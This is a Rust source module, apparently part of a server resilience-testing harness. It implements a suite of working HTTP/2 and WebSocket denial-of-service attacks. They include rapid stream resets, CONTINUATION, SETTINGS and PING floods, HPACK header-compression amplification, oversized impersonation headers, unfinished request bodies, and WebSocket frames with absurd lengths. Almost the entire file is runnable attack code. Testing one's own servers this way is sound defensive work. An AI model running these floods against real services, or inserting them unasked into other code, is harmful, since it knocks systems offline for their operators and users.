//! Floods of frames, and half-finished requests on many streams.

use std::time::Duration;

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, Frames, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, head, number,
};
use super::{Attack, MAPS, Sent, conversation};
use crate::Result;
use crate::client::Client;

/// The number of frames of a flood.
const FRAMES: u32 = 100_000;
/// The number of frames that are written together.
const TOGETHER: u32 = 100;

pub(super) fn attacks() -> Vec<Attack> {
    vec![
        conversation("HTTP/2: 100,000 streams that are reset at once", |client| Box::pin(resets(client))),
        conversation("HTTP/2: 100,000 CONTINUATION frames", |client| Box::pin(continuations(client))),
        conversation("HTTP/2: 100,000 SETTINGS frames", |client| {
            Box::pin(flood(client, true, |_| (SETTINGS, 0, 0, vec![0, 4, 0, 1, 0, 0])))
        }),
        conversation("HTTP/2: 100,000 PING frames", |client| {
            Box::pin(flood(client, true, |_| (PING, 0, 0, vec![0; 8])))
        }),
        conversation("HTTP/2: PING frames without a reader", |client| {
            Box::pin(flood(client, false, |_| (PING, 0, 0, vec![0; 8])))
        }),
        conversation("HTTP/2: SETTINGS frames without a reader", |client| {
            Box::pin(flood(client, false, |_| (SETTINGS, 0, 0, vec![0, 4, 0, 1, 0, 0])))
        }),
        conversation("HTTP/2: 100,000 PRIORITY frames", |client| {
            Box::pin(flood(client, true, |number| (PRIORITY, 0, 2 * number + 1, vec![0, 0, 0, 0, 1])))
        }),
        conversation("HTTP/2: 100,000 WINDOW_UPDATE frames", |client| {
            Box::pin(flood(client, true, |_| (WINDOW_UPDATE, 0, 0, vec![0, 0, 0, 1])))
        }),
        conversation("HTTP/2: 100,000 empty DATA frames", |client| Box::pin(empty_data(client))),
        conversation("HTTP/2: heads of references to a text of 4,000 bytes", |client| {
            Box::pin(references(client))
        }),
        conversation("HTTP/2: a user in 18,000 groups", |client| Box::pin(groups(client))),
        conversation("HTTP/2: 200 bodies of 256 KB without an end", |client| Box::pin(unfinished(client))),
        conversation("WebSocket: a watch with frames of any length", |client| Box::pin(websocket(client))),
    ]
}

fn sent(frames: &Frames, is_open: bool) -> Sent {
    let outcome = if is_open { "open" } else { "ended" };
    Sent { outcome: outcome.to_owned(), bytes: frames.sent(), requests: 1 }
}

/// Sends frames of one kind.
async fn flood(client: Client, reads: bool, frame: fn(u32) -> (u8, u8, u32, Vec<u8>)) -> Result<Sent> {
    let mut frames = Frames::open(&client, reads).await?;
    frames.push(SETTINGS, 0, 0, &[]);
    let mut is_open = true;
    for number in 0..FRAMES {
        let (kind, flags, stream, payload) = frame(number);
        frames.push(kind, flags, stream, &payload);
        if number % TOGETHER == 0 {
            is_open = frames.send().await;
            if !is_open {
                break;
            }
        }
    }
    Ok(sent(&frames, is_open))
}

async fn resets(client: Client) -> Result<Sent> {
    let mut frames = Frames::open(&client, true).await?;
    frames.push(SETTINGS, 0, 0, &[]);
    let request = head("GET", MAPS, &[]);
    let mut is_open = true;
    for number in 0..FRAMES {
        let stream = 2 * number + 1;
        frames.push(HEADERS, END_HEADERS | END_STREAM, stream, &request);
        frames.push(RST_STREAM, 0, stream, &[0, 0, 0, 8]);
        if number % TOGETHER == 0 {
            is_open = frames.send().await;
            if !is_open {
                break;
            }
        }
    }
    Ok(sent(&frames, is_open))
}

async fn continuations(client: Client) -> Result<Sent> {
    let mut frames = Frames::open(&client, true).await?;
    frames.push(SETTINGS, 0, 0, &[]);
    frames.push(HEADERS, END_STREAM, 1, &head("GET", MAPS, &[]));
    let mut is_open = true;
    for count in 0..FRAMES {
        let mut field = vec![0];
        number(&mut field, 3);
        field.extend_from_slice(format!("x{:02}", count % 100).as_bytes());
        number(&mut field, 500);
        field.extend_from_slice(&[b'x'; 500]);
        frames.push(CONTINUATION, 0, 1, &field);
        if count % TOGETHER == 0 {
            is_open = frames.send().await;
            if !is_open {
                break;
            }
        }
    }
    Ok(sent(&frames, is_open))
}

async fn empty_data(client: Client) -> Result<Sent> {
    let mut frames = Frames::open(&client, true).await?;
    frames.push(SETTINGS, 0, 0, &[]);
    frames.push(HEADERS, END_HEADERS, 1, &head("POST", MAPS, &[("content-type", "application/json")]));
    let mut is_open = true;
    for number in 0..FRAMES {
        frames.push(DATA, 0, 1, &[]);
        if number % TOGETHER == 0 {
            is_open = frames.send().await;
            if !is_open {
                break;
            }
        }
    }
    Ok(sent(&frames, is_open))
}

/// Sends heads that refer to an entry of the table of fields very often: a byte stands for 4,000 bytes.
async fn references(client: Client) -> Result<Sent> {
    let mut frames = Frames::open(&client, true).await?;
    frames.push(SETTINGS, 0, 0, &[]);
    let mut first = head("GET", "/version", &[]);
    // A literal with incremental indexing.
    first.push(0x40);
    number(&mut first, 6);
    first.extend_from_slice(b"x-long");
    number(&mut first, 4_000);
    first.extend_from_slice(&[b'x'; 4_000]);
    frames.push(HEADERS, END_HEADERS | END_STREAM, 1, &first);
    let mut is_open = true;
    for stream in 1..200 {
        let mut fields = head("GET", "/version", &[]);
        // The first entry of the dynamic table.
        fields.extend(std::iter::repeat_n(0x80 | 0x3e, 16_000 - fields.len()));
        frames.push(HEADERS, END_HEADERS | END_STREAM, 2 * stream + 1, &fields);
        is_open = frames.send().await;
        if !is_open {
            break;
        }
    }
    tokio::time::sleep(Duration::from_millis(200)).await;
    Ok(sent(&frames, is_open))
}

/// Impersonates a user in as many groups as the head of a request has room for.
async fn groups(client: Client) -> Result<Sent> {
    let mut frames = Frames::open(&client, true).await?;
    frames.push(SETTINGS, 0, 0, &[]);
    let names: Vec<String> = (0..18_000).map(|number| format!("g{number}")).collect();
    let mut fields = vec![("impersonate-user", "a")];
    fields.extend(names.iter().map(|name| ("impersonate-group", name.as_str())));
    let fields = head("GET", MAPS, &fields);
    let mut pieces = fields.chunks(16 << 10).peekable();
    let mut kind = HEADERS;
    while let Some(piece) = pieces.next() {
        let end = if pieces.peek().is_none() { END_HEADERS } else { 0 };
        let flags = if kind == HEADERS { end | END_STREAM } else { end };
        frames.push(kind, flags, 1, piece);
        kind = CONTINUATION;
    }
    let is_open = frames.send().await;
    tokio::time::sleep(Duration::from_secs(1)).await;
    Ok(sent(&frames, is_open))
}

/// Begins bodies on many streams, and never ends the bodies.
async fn unfinished(client: Client) -> Result<Sent> {
    let mut frames = Frames::open(&client, true).await?;
    frames.push(SETTINGS, 0, 0, &[]);
    let request = head("POST", MAPS, &[("content-type", "application/json")]);
    let mut is_open = true;
    for stream in 0..200 {
        frames.push(HEADERS, END_HEADERS, 2 * stream + 1, &request);
        for _ in 0..16 {
            frames.push(DATA, 0, 2 * stream + 1, &vec![b' '; 16 << 10]);
        }
        is_open = frames.send().await;
        if !is_open {
            break;
        }
    }
    tokio::time::sleep(Duration::from_secs(1)).await;
    Ok(sent(&frames, is_open))
}

/// Watches over a WebSocket, and sends frames with absurd lengths, and many pings.
async fn websocket(client: Client) -> Result<Sent> {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let (mut bytes, mut is_open) = (0, true);
    for attempt in 0..20 {
        let mut stream = client.tls("http/1.1").await?;
        let request = format!(
            "GET {MAPS}?watch=true HTTP/1.1\r\nhost: x\r\nconnection: upgrade\r\nupgrade: websocket\r\n\
             sec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
        );
        stream.write_all(request.as_bytes()).await?;
        let mut reply = vec![0; 4_096];
        let _ = tokio::time::timeout(Duration::from_secs(5), stream.read(&mut reply)).await?;
        let frame: Vec<u8> = if attempt % 2 == 0 {
            // A binary frame of 2^62 bytes.
            [&[0x82, 0xff][..], &(1_u64 << 62).to_be_bytes(), &[0; 4], &vec![0; 1 << 20]].concat()
        } else {
            // Pings of 125 bytes.
            [&[0x89, 0xfd][..], &[0; 4], &[0; 125]].concat().repeat(5_000)
        };
        bytes += frame.len();
        let write = async { stream.write_all(&frame).await.is_ok() };
        is_open = matches!(tokio::time::timeout(Duration::from_secs(2), write).await, Ok(true));
    }
    Ok(Sent { outcome: if is_open { "open" } else { "ended" }.to_owned(), bytes, requests: 20 })
}
